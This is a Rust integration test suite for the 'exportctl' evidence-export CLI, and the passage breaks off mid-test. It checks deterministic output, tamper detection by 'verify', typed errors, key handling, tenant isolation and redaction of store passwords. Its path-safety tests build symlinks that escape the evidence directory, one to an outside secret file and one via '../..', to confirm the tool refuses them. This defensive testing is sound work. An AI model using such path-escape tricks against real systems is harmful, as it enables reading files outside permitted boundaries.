//! `exportctl` end to end: the README's main command, determinism of every profile and
//! compression, `verify` on good and tampered output, and every bad input of the contract
//! (typed error, code, exit status, nothing left under --out).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn exportctl() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_exportctl"));
    c.env_remove("SOURCE_DATE_EPOCH");
    c
}

fn samples() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../samples/evidence")
}

fn run(args: &[&str]) -> Output {
    exportctl().args(args).output().expect("spawn exportctl")
}

fn text(o: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
}

/// The run store used next to an output directory.
fn store_of(out: &Path) -> String {
    format!("{}.sqlite", out.display())
}

fn export(profile: &str, evidence: &Path, out: &Path, extra: &[&str]) -> Output {
    let store = store_of(out);
    let mut args =
        vec!["run", "--profile", profile, "--evidence", evidence.to_str().unwrap(), "--out", out.to_str().unwrap()];
    if !extra.contains(&"--store") {
        args.extend_from_slice(&["--store", &store]);
    }
    args.extend_from_slice(extra);
    run(&args)
}

fn tree(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            if e.file_type().unwrap().is_dir() {
                stack.push(e.path());
            } else {
                let rel = e.path().strip_prefix(dir).unwrap().display().to_string();
                out.insert(rel, std::fs::read(e.path()).unwrap());
            }
        }
    }
    out
}

#[test]
fn readme_main_command_and_json_record() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let o = export("json:raw", &samples(), &out, &["--json"]);
    assert!(o.status.success(), "{}", text(&o));
    let run: serde_json::Value = serde_json::from_slice(&o.stdout).expect("--json prints one JSON object");
    assert_eq!(run["status"], "succeeded");
    assert_eq!(run["profileId"], "json:raw");
    assert!(run["runId"].as_str().unwrap().starts_with("export-run::default::"));
    let outputs = run["outputs"].as_array().unwrap();
    assert_eq!(outputs.len(), 2);
    for o in outputs {
        let path = out.join(o["path"].as_str().unwrap());
        let bytes = std::fs::read(&path).unwrap();
        use sha2::Digest;
        assert_eq!(hex::encode(sha2::Sha256::digest(&bytes)), o["sha256"].as_str().unwrap());
        assert!(o["url"].as_str().unwrap().starts_with("file://"));
    }
    assert_eq!(run["progress"]["percent"], 100);
    // Progress went to stderr, not stdout.
    assert!(String::from_utf8_lossy(&o.stderr).contains("progress"));
    let v = run_verify(&out);
    assert!(v.status.success(), "{}", text(&v));
}

fn run_verify(path: &Path) -> Output {
    run(&["verify", path.to_str().unwrap()])
}

#[test]
fn every_profile_and_compression_is_deterministic() {
    let tmp = tempfile::tempdir().unwrap();
    for profile in ["json:raw", "json:policy"] {
        for comp in ["none", "gzip", "zstd"] {
            for (i, fmt) in [["--format", "ndjson"], ["--format", "json"]].iter().enumerate() {
                let a = tmp.path().join(format!("{profile}-{comp}-{i}-a").replace(':', "_"));
                let b = tmp.path().join(format!("{profile}-{comp}-{i}-b").replace(':', "_"));
                for out in [&a, &b] {
                    let o = export(profile, &samples(), out, &["--compression", comp, fmt[0], fmt[1]]);
                    assert!(o.status.success(), "{}", text(&o));
                }
                let (ta, tb) = (tree(&a), tree(&b));
                assert_eq!(ta.keys().collect::<Vec<_>>(), tb.keys().collect::<Vec<_>>());
                for (k, v) in &ta {
                    assert!(v == &tb[k], "{profile} {comp}: {k} differs between two runs");
                }
            }
        }
    }
}

#[test]
fn source_date_epoch_and_created_at_pin_time() {
    let tmp = tempfile::tempdir().unwrap();
    let a = tmp.path().join("a");
    let o = exportctl()
        .args(["run", "--profile", "json:raw", "--evidence", samples().to_str().unwrap(), "--out", a.to_str().unwrap()])
        .args(["--store", &store_of(&a)])
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let m: serde_json::Value = serde_json::from_slice(&std::fs::read(a.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(m["createdAt"], "2023-11-14T22:13:20Z");
    assert_eq!(m["createdAtSource"], "source-date-epoch");
    let b = tmp.path().join("b");
    let o = exportctl()
        .args(["run", "--profile", "json:raw", "--evidence", samples().to_str().unwrap(), "--out", b.to_str().unwrap()])
        .args(["--store", &store_of(&b)])
        .args(["--created-at", "2025-01-01T00:00:00Z"])
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    let m: serde_json::Value = serde_json::from_slice(&std::fs::read(b.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(m["createdAt"], "2025-01-01T00:00:00Z");
    assert_eq!(m["createdAtSource"], "request");
    // GNU tar (with the zstd tool, an interop dependency) reads owners and times back.
    if std::env::var("EXPORTCORE_INTEROP").is_ok_and(|v| v == "1") {
        let listing = Command::new("tar").arg("--zstd").arg("-tvf").arg(b.join("json-raw.tar.zst")).output().unwrap();
        assert!(listing.status.success(), "tar --zstd failed (is zstd installed?): {}", text(&listing));
        let listing = String::from_utf8_lossy(&listing.stdout);
        assert!(
            !listing.is_empty() && listing.lines().all(|l| l.contains(" 0/0 ") && l.contains("2025-01-01 00:00")),
            "{listing}"
        );
    }
}

fn fresh(tmp: &Path, name: &str) -> PathBuf {
    let out = tmp.join(name);
    let o = export("json:policy", &samples(), &out, &["--compression", "gzip"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(run_verify(&out).status.success());
    out
}

/// `dir` packed by GNU tar as `out` with POSIX ustar headers, as bundles have them (GNU
/// headers are refused before anything else).
fn ustar_tgz(dir: &Path, out: &Path) {
    let st = Command::new("tar").args(["--format=ustar", "-czf"]).arg(out).arg("-C").arg(dir).arg(".").status();
    assert!(st.unwrap().success());
}

fn assert_verify_fails(path: &Path, naming: &str) {
    let o = run_verify(path);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let t = text(&o);
    assert!(t.contains(naming), "expected the failure to name {naming}: {t}");
    assert!(t.contains("ERR_EXPORT_VERIFY_FAILED"), "{t}");
}

fn flip_byte(path: &Path, at: usize) {
    let mut bytes = std::fs::read(path).unwrap();
    let i = at.min(bytes.len() - 1);
    bytes[i] ^= 0x01;
    std::fs::write(path, bytes).unwrap();
}

#[test]
fn verify_detects_tampering() {
    let tmp = tempfile::tempdir().unwrap();
    // One flipped byte in the bundle.
    let out = fresh(tmp.path(), "flip");
    flip_byte(&out.join("json-policy.tar.gz"), 300);
    assert_verify_fails(&out, "json-policy.tar.gz");
    // A missing file.
    let out = fresh(tmp.path(), "missing");
    std::fs::remove_file(out.join("json-policy.tar.gz")).unwrap();
    assert_verify_fails(&out, "json-policy.tar.gz");
    // An extra file.
    let out = fresh(tmp.path(), "extra");
    std::fs::write(out.join("notes.txt"), "hello").unwrap();
    assert_verify_fails(&out, "notes.txt");
    // An edited manifest.
    let out = fresh(tmp.path(), "manifest");
    let m = std::fs::read_to_string(out.join("manifest.json")).unwrap();
    std::fs::write(out.join("manifest.json"), m.replace("\"size\":", "\"size\": ")).unwrap();
    assert_verify_fails(&out, "manifest.json");
    // Verifying the bundle file on its own, after changing one member.
    let out = fresh(tmp.path(), "member");
    let x = tmp.path().join("x");
    std::fs::create_dir(&x).unwrap();
    assert!(Command::new("tar")
        .arg("-xzf")
        .arg(out.join("json-policy.tar.gz"))
        .arg("-C")
        .arg(&x)
        .status()
        .unwrap()
        .success());
    flip_byte(&x.join("raw/vex.ndjson"), 10);
    let rebuilt = tmp.path().join("rebuilt.tar.gz");
    ustar_tgz(&x, &rebuilt);
    assert_verify_fails(&rebuilt, "raw/vex.ndjson");
    // A bundle with an extra member.
    std::fs::write(x.join("raw/extra.ndjson"), "{}\n").unwrap();
    flip_byte(&x.join("raw/vex.ndjson"), 10);
    let rebuilt = tmp.path().join("extra.tar.gz");
    ustar_tgz(&x, &rebuilt);
    assert_verify_fails(&rebuilt, "raw/extra.ndjson");
    // A truncated archive.
    let out = fresh(tmp.path(), "trunc");
    let f = out.join("json-policy.tar.gz");
    let bytes = std::fs::read(&f).unwrap();
    std::fs::write(&f, &bytes[..bytes.len() / 2]).unwrap();
    assert_verify_fails(&f, "json-policy.tar.gz");
    // Usage error: no such path.
    let o = run_verify(&tmp.path().join("nope"));
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).contains("ERR_EXPORT_IO"));
}

/// Runs an export expected to fail; checks code, exit status and that --out holds nothing.
fn assert_run_fails(evidence: &Path, extra: &[&str], code: &str, mentions: &str) {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let profile = extra.iter().position(|a| *a == "--profile").map(|i| extra[i + 1]).unwrap_or("json:raw");
    let rest: Vec<&str> = extra.iter().copied().filter(|a| *a != "--profile" && *a != profile).collect();
    let o = export(profile, evidence, &out, &rest);
    let t = text(&o);
    assert!(!o.status.success(), "expected failure: {t}");
    assert!(t.contains(code), "expected {code}: {t}");
    assert!(t.contains(mentions), "expected the error to mention {mentions:?}: {t}");
    assert!(!t.contains("panicked"), "{t}");
    let left = std::fs::read_dir(&out).map(|rd| rd.count()).unwrap_or(0);
    assert_eq!(left, 0, "partial output left under --out");
}

fn evidence_with(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (path, body) in files {
        let p = dir.path().join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    }
    dir
}

const GOOD: &str = r#"{"id":"GHSA-1","modified":"2024-01-01T00:00:00Z"}"#;

#[test]
fn bad_evidence_gives_typed_errors_and_no_output() {
    // Malformed JSON: names file and line.
    let ev = evidence_with(&[("advisories/a.ndjson", &format!("{GOOD}\n{GOOD}\n{{\"id\": oops}}\n"))]);
    assert_run_fails(ev.path(), &[], "ERR_EXPORT_EVIDENCE_INVALID", "advisories/a.ndjson:3");
    let ev = evidence_with(&[("vex/doc.json", "{\n  \"@context\": \"https://openvex.dev/ns/v0.2.0\",\n  oops\n}")]);
    assert_run_fails(ev.path(), &[], "ERR_EXPORT_EVIDENCE_INVALID", "vex/doc.json:3");
    // OSV missing required fields.
    let ev = evidence_with(&[("advisories/x.json", r#"{"id":"GHSA-2","summary":"no modified"}"#)]);
    assert_run_fails(ev.path(), &[], "ERR_EXPORT_EVIDENCE_INVALID", "missing required field \"modified\"");
    let ev = evidence_with(&[("advisories/x.json", r#"{"modified":"2024-01-01T00:00:00Z"}"#)]);
    assert_run_fails(ev.path(), &[], "ERR_EXPORT_EVIDENCE_INVALID", "advisories/x.json");
    // A file of an unknown type.
    let ev = evidence_with(&[("advisories/notes.txt", "hi")]);
    assert_run_fails(ev.path(), &[], "ERR_EXPORT_EVIDENCE_INVALID", "advisories/notes.txt");
    // A symlink escaping the evidence directory.
    let ev = evidence_with(&[("advisories/ok.json", GOOD)]);
    let outside = evidence_with(&[("secret.json", GOOD)]);
    std::os::unix::fs::symlink(outside.path().join("secret.json"), ev.path().join("advisories/leak.json")).unwrap();
    assert_run_fails(ev.path(), &[], "ERR_EXPORT_PATH_UNSAFE", "leak.json");
    // A symlinked directory escaping through `..`.
    let ev = evidence_with(&[("advisories/ok.json", GOOD)]);
    std::os::unix::fs::symlink("../..", ev.path().join("vex")).unwrap();
    assert_run_fails(ev.path(), &[], "ERR_EXPORT_PATH_UNSAFE", "outside the evidence directory");
    // An empty evidence directory.
    let ev = evidence_with(&[]);
    assert_run_fails(ev.path(), &[], "ERR_EXPORT_EVIDENCE_EMPTY", "advisory");
    assert_run_fails(ev.path(), &["--profile", "json:policy"], "ERR_EXPORT_EVIDENCE_EMPTY", "policy");
    // A missing evidence directory.
    assert_run_fails(&ev.path().join("nope"), &[], "ERR_EXPORT_IO", "nope");
}

#[test]
fn bad_requests_give_typed_errors_and_no_output() {
    let s = samples();
    assert_run_fails(&s, &["--profile", "json:nope"], "ERR_EXPORT_PROFILE_NOT_FOUND", "json:nope");
    assert_run_fails(&s, &["--format", "xml"], "ERR_EXPORT_REQUEST_INVALID", "--format");
    assert_run_fails(&s, &["--target", "sbom"], "ERR_EXPORT_REQUEST_INVALID", "--target");
    assert_run_fails(&s, &["--target", "vex", "--target", "vex"], "ERR_EXPORT_REQUEST_INVALID", "targets[1]");
    assert_run_fails(&s, &["--compression", "lz4"], "ERR_EXPORT_REQUEST_INVALID", "--compression");
    assert_run_fails(
        &s,
        &["--compression", "gzip", "--compression-level", "12"],
        "ERR_EXPORT_REQUEST_INVALID",
        "compressionLevel",
    );
    assert_run_fails(&s, &["--created-at", "yesterday"], "ERR_EXPORT_REQUEST_INVALID", "--created-at");
    assert_run_fails(&s, &["--retention-days", "0"], "ERR_EXPORT_REQUEST_INVALID", "retentionDays");
    assert_run_fails(&s, &["--retention-days", "5000"], "ERR_EXPORT_REQUEST_INVALID", "retentionDays");
    assert_run_fails(&s, &["--sign-key", "/nonexistent/k.pem"], "ERR_EXPORT_IO", "k.pem");
    assert_run_fails(&s, &["--base", "prev"], "ERR_EXPORT_REQUEST_INVALID", "only mirror:delta takes a base");
    // serve without any authentication configured refuses to start.
    let o = run(&["serve", "--listen", "127.0.0.1:0"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("ERR_EXPORT_REQUEST_INVALID"), "{}", text(&o));
}

#[test]
fn out_dir_must_be_empty() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("old.txt"), "x").unwrap();
    let o = export("json:raw", &samples(), tmp.path(), &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).contains("ERR_EXPORT_REQUEST_INVALID"), "{}", text(&o));
    assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 1);
}

#[test]
fn profiles_lists_every_bundled_profile() {
    let o = run(&["profiles", "--json"]);
    assert!(o.status.success());
    let list: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let ids: Vec<&str> = list.as_array().unwrap().iter().map(|p| p["id"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        ["devportal:offline", "json:policy", "json:raw", "mirror:delta", "mirror:full", "trivy:db", "trivy:java-db"]
    );
    assert!(list.as_array().unwrap().iter().all(|p| !p["description"].as_str().unwrap().is_empty()));
}

#[test]
fn large_generated_set_streams_through() {
    let tmp = tempfile::tempdir().unwrap();
    let ev = tmp.path().join("ev");
    let opts = evidence_gen::GenOptions {
        advisories: 20_000,
        advisories_per_file: 7_000,
        findings: 500,
        vex_documents: 20,
        ..Default::default()
    };
    evidence_gen::generate(&ev, &opts).unwrap();
    let out = tmp.path().join("out");
    let o = export("json:policy", &ev, &out, &["--json"]);
    assert!(o.status.success(), "{}", text(&o));
    let run: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(run["progress"]["itemsCompleted"], 20_000 + 20 + 500 + 500);
    assert!(run_verify(&out).status.success());
}

#[test]
fn keygen_sign_and_verify_with_key() {
    let tmp = tempfile::tempdir().unwrap();
    let prefix = |a: &str| tmp.path().join(a).to_str().unwrap().to_owned();
    for alg in ["ed25519", "ecdsa-p256", "sm2"] {
        let o = run(&["keygen", "--algorithm", alg, "--out", &prefix(alg)]);
        assert!(o.status.success(), "{}", text(&o));
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(format!("{}.key", prefix(alg))).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "private key must be 0600");
        // Refuses to overwrite.
        let o = run(&["keygen", "--algorithm", alg, "--out", &prefix(alg)]);
        assert_eq!(o.status.code(), Some(2));
        let out = tmp.path().join(format!("out-{alg}"));
        let key = format!("{}.key", prefix(alg));
        let o = export("json:raw", &samples(), &out, &["--sign-key", &key]);
        assert!(o.status.success(), "{}", text(&o));
        let pubkey = format!("{}.pub", prefix(alg));
        let o = run(&["verify", out.to_str().unwrap(), "--key", &pubkey]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(text(&o).contains("signatures valid"));
    }
    // Without --key, OK says what it did not prove; removing the envelopes makes it "unsigned".
    let out = tmp.path().join("out-ed25519");
    let o = run(&["verify", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("signatures present but not checked (no --key)"), "{}", text(&o));
    let stripped = tmp.path().join("stripped");
    std::fs::create_dir_all(&stripped).unwrap();
    for (name, bytes) in tree(&out) {
        if !name.ends_with(".dsse.json") {
            let p = stripped.join(&name);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, bytes).unwrap();
        }
    }
    let o = run(&["verify", stripped.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("unsigned: origin not proven"), "{}", text(&o));
    let o = run(&["verify", stripped.to_str().unwrap(), "--key", &format!("{}.pub", prefix("ed25519"))]);
    assert_eq!(o.status.code(), Some(1), "a required signature that is missing fails: {}", text(&o));
    // Wrong key type for the signature (P-256 key, Ed25519 signature).
    let o = run(&["verify", out.to_str().unwrap(), "--key", &format!("{}.pub", prefix("ecdsa-p256"))]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("manifest.dsse.json"), "{}", text(&o));
    // A private key where a public key belongs; an unknown algorithm; a malformed key file.
    let o = run(&["verify", out.to_str().unwrap(), "--key", &format!("{}.key", prefix("ed25519"))]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).contains("ERR_EXPORT_REQUEST_INVALID") && text(&o).contains("PUBLIC KEY"), "{}", text(&o));
    assert!(text(&o).contains("--key") && text(&o).contains("ed25519.key"), "names the flag and file: {}", text(&o));
    let o = run(&["keygen", "--algorithm", "rsa", "--out", &prefix("rsa")]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).contains("unknown algorithm"), "{}", text(&o));
    let junk = tmp.path().join("junk.key");
    std::fs::write(&junk, "-----BEGIN PRIVATE KEY-----\nnot base64!\n-----END PRIVATE KEY-----\n").unwrap();
    assert_run_fails(&samples(), &["--sign-key", junk.to_str().unwrap()], "ERR_EXPORT_REQUEST_INVALID", "PEM");
    // An SM2 key cannot sign TUF metadata: a mirror run refuses it before any work, exit 2.
    let sm2_key = format!("{}.key", prefix("sm2"));
    assert_run_fails(
        &samples(),
        &["--profile", "mirror:full", "--sign-key", &sm2_key],
        "ERR_EXPORT_NOT_SUPPORTED",
        "TUF",
    );
    let o = export("mirror:full", &samples(), &tmp.path().join("m-sm2"), &["--sign-key", &sm2_key]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    // Staleness: its own code.
    let out = tmp.path().join("out-sm2");
    let o = run(&["verify", out.to_str().unwrap(), "--max-age", "1d", "--now", "2030-01-01T00:00:00Z"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o).contains("ERR_EXPORT_STALE"), "{}", text(&o));
    let o = run(&["verify", out.to_str().unwrap(), "--max-age", "1x"]);
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn runs_list_show_events_read_the_store() {
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("runs.sqlite");
    let s = store.to_str().unwrap();
    let mut ids = Vec::new();
    for (i, profile) in ["json:raw", "json:policy"].iter().enumerate() {
        let out = tmp.path().join(format!("out{i}"));
        let o = export(profile, &samples(), &out, &["--store", s, "--json", "--tenant", "acme"]);
        assert!(o.status.success(), "{}", text(&o));
        let run: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        ids.push(run["runId"].as_str().unwrap().to_owned());
    }
    // A failed run is recorded too.
    let o = export(
        "json:raw",
        &tmp.path().join("empty-ev"),
        &tmp.path().join("out-x"),
        &["--store", s, "--tenant", "acme"],
    );
    assert!(!o.status.success());
    let o = run(&["runs", "list", "--store", s, "--tenant", "acme", "--json"]);
    assert!(o.status.success(), "{}", text(&o));
    let list: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(list.len(), 2, "newest first, failed submission rejected before queueing");
    assert_eq!(list[0]["runId"], ids[1].as_str());
    assert_eq!(list[1]["runId"], ids[0].as_str());
    assert!(list.iter().all(|r| r["status"] == "succeeded"));
    let o = run(&["runs", "list", "--store", s, "--tenant", "acme", "--json", "--profile", "json:raw"]);
    let only: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(only.len(), 1);
    // Another tenant sees nothing, and cannot read the run.
    let o = run(&["runs", "list", "--store", s, "--json"]);
    assert_eq!(serde_json::from_slice::<Vec<serde_json::Value>>(&o.stdout).unwrap().len(), 0);
    let o = run(&["runs", "show", &ids[0], "--store", s]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).contains("ERR_EXPORT_NOT_FOUND"), "{}", text(&o));
    // show and events.
    let o = run(&["runs", "show", &ids[0], "--store", s, "--tenant", "acme", "--json"]);
    let shown: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(shown["status"], "succeeded");
    assert_eq!(shown["outputs"].as_array().unwrap().len(), 2);
    let o = run(&["runs", "events", &ids[0], "--store", s, "--tenant", "acme"]);
    assert!(o.status.success(), "{}", text(&o));
    let lines: Vec<serde_json::Value> =
        String::from_utf8_lossy(&o.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.first().unwrap()["event"], "started");
    assert_eq!(lines.last().unwrap()["event"], "completed");
    assert!(lines.windows(2).all(|w| w[1]["id"].as_u64().unwrap() == w[0]["id"].as_u64().unwrap() + 1));
    // A run record damaged behind the store's back hides nothing else: the list goes on and
    // names it on stderr; showing it says what is wrong; a new run still runs.
    let conn = rusqlite::Connection::open(&store).unwrap();
    conn.execute("UPDATE runs SET record = '{damaged' WHERE run_id = ?1", [&ids[0]]).unwrap();
    drop(conn);
    let o = run(&["runs", "list", "--store", s, "--tenant", "acme", "--json"]);
    assert!(o.status.success(), "{}", text(&o));
    let list: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(list.iter().map(|r| r["runId"].as_str().unwrap()).collect::<Vec<_>>(), [ids[1].as_str()]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains(&format!("warning: run {} has an unreadable record", ids[0])), "{err}");
    let o = run(&["runs", "show", &ids[0], "--store", s, "--tenant", "acme"]);
    assert!(text(&o).contains("ERR_EXPORT_STORE_INVALID") && text(&o).contains(&ids[0]), "{}", text(&o));
    let o = export("json:raw", &samples(), &tmp.path().join("out-after"), &["--store", s, "--tenant", "acme"]);
    assert!(o.status.success(), "{}", text(&o));
    // Bad stores: a foreign SQLite-looking file and a missing one.
    let junk = tmp.path().join("junk.sqlite");
    std::fs::write(&junk, "not sqlite").unwrap();
    let o = run(&["runs", "list", "--store", junk.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).contains("ERR_EXPORT_STORE_INVALID"), "{}", text(&o));
    assert_eq!(std::fs::read(&junk).unwrap(), b"not sqlite", "nothing changed");
    let o = run(&["runs", "list", "--store", tmp.path().join("nope.sqlite").to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    let out = tmp.path().join("out-junk");
    let o = export("json:raw", &samples(), &out, &["--store", junk.to_str().unwrap()]);
    assert!(text(&o).contains("ERR_EXPORT_STORE_INVALID"), "{}", text(&o));
    assert!(!out.exists(), "no output without a usable store");
}

#[test]
fn devportal_and_trivy_through_the_cli() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("dp");
    let o = export("devportal:offline", &samples(), &out, &[]);
    assert!(o.status.success(), "{}", text(&o));
    let bundle = out.join("devportal-offline-bundle.tgz");
    for p in [&out, &bundle] {
        let o = run_verify(p);
        assert!(o.status.success(), "{}", text(&o));
    }
    flip_byte(&bundle, 2000);
    assert_verify_fails(&bundle, "devportal-offline-bundle.tgz");
    assert_verify_fails(&out, "devportal-offline-bundle.tgz");
    let out = tmp.path().join("trivy");
    let o = export("trivy:db", &samples(), &out, &["--created-at", "2025-06-01T00:00:00Z"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        out.join("db/trivy.db").is_file() && out.join("db.tar.gz").is_file() && out.join("oci/index.json").is_file()
    );
    assert!(run_verify(&out).status.success());
}

#[test]
fn compression_level_trades_size_and_still_verifies() {
    let tmp = tempfile::tempdir().unwrap();
    let mut sizes = Vec::new();
    for level in ["1", "19"] {
        let out = tmp.path().join(format!("zstd-{level}"));
        let o = export("json:raw", &samples(), &out, &["--compression", "zstd", "--compression-level", level]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(run_verify(&out).status.success());
        sizes.push(std::fs::metadata(out.join("json-raw.tar.zst")).unwrap().len());
    }
    assert!(sizes[1] < sizes[0], "level 19 should be smaller than level 1: {sizes:?}");
}

/// Two runs into one `--out` at the same time: exactly one wins, the other fails with a clear
/// error before writing, and the winner's output is complete and verifies.
#[test]
fn concurrent_runs_into_one_out_dir_cannot_both_succeed() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let spawn = |i: usize| {
        exportctl()
            .args(["run", "--profile", "json:raw", "--evidence", samples().to_str().unwrap()])
            .args(["--out", out.to_str().unwrap(), "--store", &format!("{}/s{i}.sqlite", tmp.path().display())])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    for _ in 0..3 {
        let _ = std::fs::remove_dir_all(&out);
        let children: Vec<_> = (0..3).map(spawn).collect();
        let outputs: Vec<Output> = children.into_iter().map(|c| c.wait_with_output().unwrap()).collect();
        let winners = outputs.iter().filter(|o| o.status.success()).count();
        assert_eq!(winners, 1, "{:?}", outputs.iter().map(text).collect::<Vec<_>>());
        for o in outputs.iter().filter(|o| !o.status.success()) {
            let t = text(o);
            assert_eq!(o.status.code(), Some(2), "{t}");
            assert!(t.contains("ERR_EXPORT_REQUEST_INVALID") && t.contains("--out"), "{t}");
        }
        assert!(run_verify(&out).status.success());
    }
}

/// Every subcommand writing into a closed pipe (`exportctl ... | head -0`) ends quietly: no
/// panic, exit 0, like other command-line tools.
#[test]
fn a_closed_stdout_is_a_quiet_exit_not_a_panic() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let store = format!("{}/s.sqlite", tmp.path().display());
    let o = export("json:raw", &samples(), &out, &["--store", &store]);
    assert!(o.status.success(), "{}", text(&o));
    let run_id = String::from_utf8_lossy(&o.stdout).split_whitespace().nth(1).unwrap().to_owned();
    let out_s = out.to_str().unwrap().to_owned();
    let cases: Vec<Vec<String>> = vec![
        vec!["profiles".into()],
        vec!["profiles".into(), "--json".into()],
        vec!["verify".into(), out_s],
        vec!["runs".into(), "list".into(), "--store".into(), store.clone()],
        vec!["runs".into(), "list".into(), "--json".into(), "--store".into(), store.clone()],
        vec!["runs".into(), "show".into(), run_id.clone(), "--store".into(), store.clone()],
        vec!["runs".into(), "events".into(), run_id, "--store".into(), store.clone()],
        vec![
            "run".into(),
            "--profile".into(),
            "json:raw".into(),
            "--evidence".into(),
            samples().to_str().unwrap().into(),
            "--out".into(),
            tmp.path().join("out2").to_str().unwrap().into(),
            "--store".into(),
            store,
        ],
    ];
    for args in cases {
        let mut child = exportctl()
            .args(&args)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        drop(child.stdout.take()); // the reader goes away before anything is written
        let o = child.wait_with_output().unwrap();
        let t = text(&o);
        assert!(!t.contains("panicked"), "{args:?}: {t}");
        assert_eq!(o.status.code(), Some(0), "{args:?}: {t}");
    }
    // But a command that already knows it fails keeps failing: `verify` of a tampered run
    // writing its FAIL lines into a closed pipe exits 1 (under `pipefail` a check must not
    // pass because its reader stopped early).
    std::fs::write(out.join("json-raw.tar.zst"), b"tampered").unwrap();
    let mut child = exportctl()
        .args(["verify", out.to_str().unwrap()])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
}

/// `--store` URLs are never printed with their password, in the userinfo or in the query.
#[test]
fn a_postgres_password_never_reaches_the_output() {
    for url in [
        "postgres://u:hunter2@127.0.0.1:1/db",
        "postgresql://127.0.0.1:1/db?user=u&password=hunter2",
        "postgres://u:hun?ter2@127.0.0.1:1/db",
    ] {
        let o = run(&["runs", "list", "--store", url, "--tenant", "t"]);
        assert!(!o.status.success());
        assert!(!text(&o).contains("hunter2") && !text(&o).contains("hun"), "{url}: {}", text(&o));
    }
}

/// Runs `exportctl args` and fails the test (instead of hanging it) after 60 s.
fn run_bounded(args: &[&str]) -> Output {
    let mut child = exportctl()
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("exportctl {args:?} hung");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

fn mkfifo(path: &Path) {
    assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
}

/// FIFOs where files are expected, and a key that never ends: typed errors at once, no hang,
/// no unbounded read.
#[test]
fn fifos_and_endless_files_are_errors_not_hangs() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let o = export("json:raw", &samples(), &out, &[]);
    assert!(o.status.success(), "{}", text(&o));
    // verify DIR whose manifest.json is a FIFO, and verify FIFO.
    std::fs::remove_file(out.join("manifest.json")).unwrap();
